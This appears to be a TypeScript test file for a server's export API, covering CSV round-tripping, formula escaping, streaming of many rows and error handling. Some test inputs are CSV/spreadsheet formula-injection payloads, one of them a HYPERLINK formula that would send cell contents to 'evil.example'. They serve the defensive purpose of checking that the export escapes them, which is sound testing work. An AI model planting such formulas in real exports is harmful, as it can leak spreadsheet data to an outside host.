import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import Database from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { exportedConversation, exportedTranscript } from '../../../contract/export.ts';
import { eventColumns } from '../../../contract/export-events.ts';
import { newId } from '../../../server/base/ids.ts';
import { onSqlite } from '../../support/cluster/harness-cluster.ts';
import { formatCsvRows, makeKey, rowsOfCsv } from '../../support/export-client.ts';
import { type Harness, openHarness } from '../../support/harness.ts';
import { dropTables } from '../../support/other-program.ts';
import { closeTurn, openTurn } from '../../support/stored-samples.ts';

const ROWS = 100_000;

let harness: Harness;
let key: string;
beforeEach(async () => {
  harness = await openHarness({ articles: [] });
  key = (await makeKey(harness)).text;
});
afterEach(() => harness.close());

const get = (path: string) =>
  fetch(`${harness.baseUrl}/api/export${path}`, { headers: { 'x-api-key': key } });

async function fillEvents(rows: number): Promise<void> {
  const { events } = harness.service.store.in(harness.workspace.id);
  for (let start = 0; start < rows; start += 5000) {
    const data = {
      path: `/${'x'.repeat(150)}`,
      region_code: 'DE',
      mode: 'opt_in',
      locale: 'de',
      returning: false,
    };
    await events.append(
      Array.from({ length: Math.min(5000, rows - start) }, (_, at) => ({
        id: newId('evt'),
        atMillis: 1_790_000_000_000 + start + at,
        type: 'boot' as const,
        data,
      })),
    );
  }
}

/** Stores each text in its own turn. */
async function fillTurns(texts: readonly string[]): Promise<void> {
  const { conversations } = harness.service.store.in(harness.workspace.id);
  // The sweep would treat an older turn as one that a stopped server left running.
  const firstAskedAt = harness.clock.now() - texts.length;
  for (const [at, text] of texts.entries()) {
    const turn = openTurn({ question: text, askedAt: firstAskedAt + at });
    await conversations.openTurn(turn, []);
    await conversations.closeTurn(
      closeTurn(turn.messageId, { answer: text, finishedAt: turn.askedAt, frames: [] }),
      [],
    );
  }
}

describe('CSV exports', () => {
  it('round-trip quotes, commas, line breaks and every script', async () => {
    const texts = [
      'a "quoted" word',
      'one, two; three',
      'line\nline\r\nline\rline',
      'lone\nline feed',
      'lone\rcarriage return',
      'one\u2028two\u2029three\u0085four\vfive\fsix',
      ' spaces ',
      'Grüße, 你好 👩‍🚀 مرحبا',
      '""',
      ',',
    ];
    await fillTurns(texts);
    const rows = rowsOfCsv(await (await get('/transcripts.csv')).text(), exportedTranscript);
    expect(rows.map(({ message }) => message)).toEqual(texts);
    expect(rows.map(({ answer }) => answer)).toEqual(texts);
  });

  it('quote text of several lines, so that no line starts a row', async () => {
    const question = 'How do I pay?\n=HYPERLINK("http://evil.example/?"&A1)\r@SUM(1)\u2028+1';
    await fillTurns([question, 'a\n=1+2', 'b\r=1+3', 'c\u2028=1+4']);
    const { events } = harness.service.store.in(harness.workspace.id);
    const data = { bucket: 'x\u2028=1' };
    const atMillis = harness.clock.now();
    await events.append([{ id: newId('evt'), atMillis, type: 'rate_limited', data }]);
    for (const [path, columns, count] of [
      ['/transcripts.csv', exportedTranscript, 4],
      ['/conversations.csv', exportedConversation, 4],
      ['/events.csv', eventColumns, 1],
    ] as const) {
      const rows = rowsOfCsv(await (await get(path)).text(), columns);
      expect(rows, path).toHaveLength(count);
      const questions = rows.flatMap((row) => ('first_message' in row ? [row.first_message] : []));
      if (path === '/conversations.csv') expect(questions).toContain(question);
    }
  });

  it('escape every cell that a spreadsheet would run as a formula', async () => {
    const formulas = [
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '＝1',
      '＋1',
      '－1',
      '＠1',
      '=HYPERLINK("http://x","y")',
      ' =1',
      '\n=1',
      '\r\n +1',
      '\nno formula at once',
      '\u00a0@SUM(A1)',
      '\u200b=1',
      '\ufeff-1',
      // PostgreSQL stores U+FFFD instead of NUL.
      ...(onSqlite ? ['\u0000=1'] : []),
    ];
    await fillTurns(formulas);
    const rows = rowsOfCsv(await (await get('/transcripts.csv')).text(), exportedTranscript);
    expect(rows.map(({ message }) => message)).toEqual(formulas.map((text) => `'${text}`));
    expect(rows.map(({ answer }) => answer)).toEqual(formulas.map((text) => `'${text}`));
  });

  it('contain the header when there are no rows', async () => {
    expect(await (await get('/events.csv')).text()).toBe('id,at,type,visitor_id,conversation_id,data\r\n');
    expect(await (await get('/events.ndjson')).text()).toBe('');
  });
});

describe('a stream of many rows', () => {
  /** Opens a connection that stops reading after the first bytes. */
  async function stalled(path: string): Promise<Socket> {
    const socket = connect(Number(new URL(harness.baseUrl).port), '127.0.0.1');
    socket.write(`GET /api/export${path} HTTP/1.1\r\nhost: localhost\r\nx-api-key: ${key}\r\n\r\n`);
    await new Promise((resolve) => socket.once('readable', resolve));
    return socket;
  }

  /** Returns a function that counts the storage queries since this call. */
  function countSteps(): () => number {
    const { events } = harness.service.store.in(harness.workspace.id);
    const original = events.queryLines;
    let steps = 0;
    Object.assign(events, {
      queryLines: (...parameters: Parameters<typeof original>) => {
        steps += 1;
        return original(...parameters);
      },
    });
    return () => steps;
  }

  it('is complete and ordered, and does not block other requests', async () => {
    await fillEvents(20_000);
    const [lines, boot] = await Promise.all([
      get('/events.ndjson').then((answer) => answer.text()),
      harness.boot(),
    ]);
    expect(boot.visitor_id).toMatch(/^vis_/);
    const rows = formatCsvRows(lines) as { id: string }[];
    expect(rows.length).toBeGreaterThanOrEqual(20_000);
    const ids = rows.slice(0, 20_000).map(({ id }) => id);
    expect(ids).toEqual(ids.toSorted());
    expect(new Set(ids).size).toBe(20_000);
  });

  // Counts the steps of SQLite's cursor.
  it.runIf(onSqlite)(
    'pauses when the client stops reading and ends when the client disconnects',
    async () => {
      await fillEvents(ROWS);
      const steps = countSteps();
      const socket = await stalled('/events.ndjson');
      // The operating system buffers part of the response.
      let read = -1;
      while (read !== steps()) {
        read = steps();
        await pause(500);
      }
      expect(read).toBeGreaterThan(0);
      expect(read).toBeLessThan(ROWS / 300 / 2);
      socket.destroy();
      await pause(200);
      expect(steps()).toBe(read);
      // An open read transaction would prevent the checkpoint of the write-ahead log.
      const database = new Database(harness.config.database.file);
      expect(database.pragma('wal_checkpoint(TRUNCATE)')).toMatchObject([{ busy: 0 }]);
      database.close();
    },
  );

  it('returns 500 when the first row cannot be read', async () => {
    await dropTables(harness, ['turn_positions']);
    for (const path of ['/transcripts.ndjson', '/transcripts.csv', '/transcripts']) {
      const response = await get(path);
      expect(response.status).toBe(500);
      expect(await response.json()).toMatchObject({ error: 'internal' });
    }
  });

  it('breaks the connection when a later row cannot be read', async () => {
    await fillEvents(ROWS);
    const response = await get('/events.ndjson');
    const reader = response.body!.getReader();
    await reader.read();
    await dropTables(harness, ['events']);
    const rest = async () => {
      while (!(await reader.read()).done);
    };
    await expect(rest()).rejects.toThrow();
  });
});
